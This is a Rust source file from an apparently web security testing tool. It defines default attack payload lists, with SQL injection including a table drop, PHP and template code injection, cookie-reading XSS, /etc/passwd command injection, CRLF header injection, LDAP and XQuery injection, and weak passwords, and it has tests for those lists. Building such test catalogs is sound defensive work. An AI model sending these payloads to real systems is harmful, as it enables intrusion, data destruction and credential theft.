//! Built-in attack payload catalogs. Each kind can be overridden by a
//! `payloads/<Kind>.txt` file (one entry per line); file-typed kinds list
//! paths resolved against the payload directory.

use super::DataKind;

pub fn default_entries(kind: DataKind) -> &'static [&'static str] {
    match kind {
        DataKind::HttpMethod => &["DELETE", "PUT", "PATCH", "HEAD", "OPTIONS", "TRACE"],
        DataKind::SqlInjection => &[
            "'or '1' = '1",
            "' OR 1=1 --",
            "\" OR \"\"=\"",
            "'; DROP TABLE users; --",
            "' UNION SELECT NULL --",
            "admin'--",
        ],
        DataKind::CodeInjection => &[
            "/%3C?php%20system(%22/bin/ls%20-l%22);?%3E",
            "<?php system(\"id\"); ?>",
            "${7*7}",
            "{{7*7}}",
            "; system('id');",
        ],
        DataKind::XssInjection => &[
            "<SCRIPT>alert('XSS');</SCRIPT>",
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "\"><script>alert(document.cookie)</script>",
            "<svg onload=alert(1)>",
        ],
        DataKind::StaticInjection => &[
            "<?php echo 'injected'; ?>",
            "<% out.println(\"injected\"); %>",
            "#{7*7}",
            "<!--#exec cmd=\"/bin/ls\"-->",
            "{{constructor.constructor('alert(1)')()}}",
        ],
        DataKind::LdapInjection => &["*", "*)(&", "*)(uid=*))(|(uid=*", "admin)(&)", "*()|%26'"],
        DataKind::XQueryInjection => &[
            "' or '1'='1",
            "') or ('1'='1",
            "*:*",
            "doc('users.xml')//user",
            "1 or count(//*)>0",
        ],
        DataKind::CommandInjection => &[
            "; ls -la",
            "| cat /etc/passwd",
            "&& id",
            "`uname -a`",
            "$(whoami)",
        ],
        DataKind::Crlf => &[
            ");die(2",
            "%0d%0aSet-Cookie:injected=1",
            "\r\nX-Injected: 1",
            "%0aLocation:%20http://evil.example",
            "%0d%0a%0d%0a<html>injected</html>",
        ],
        DataKind::WeakPassword => &["123456", "password", "admin", "qwerty", "letmein", "111111"],
        DataKind::SpecialCharacters => &["'", "\"", "%", "<", ">", "&", ";", "\\"],
        DataKind::FileWithInvalidType => &["files/sample.exe", "files/sample.php"],
        DataKind::XmlInjectedFile => &["files/injected.xml"],
        _ => &[],
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_payload_kind_ships_at_least_five_entries() {
        for kind in DataKind::ALL {
            if kind.is_payload() && !kind.is_file_payload() {
                assert!(
                    default_entries(kind).len() >= 5,
                    "{} ships too few entries",
                    kind.function_name()
                );
            }
        }
    }

    #[test]
    fn printed_attack_strings_are_first() {
        assert_eq!(
            default_entries(DataKind::XssInjection)[0],
            "<SCRIPT>alert('XSS');</SCRIPT>"
        );
        assert_eq!(default_entries(DataKind::SqlInjection)[0], "'or '1' = '1");
        assert_eq!(default_entries(DataKind::Crlf)[0], ");die(2");
    }
}
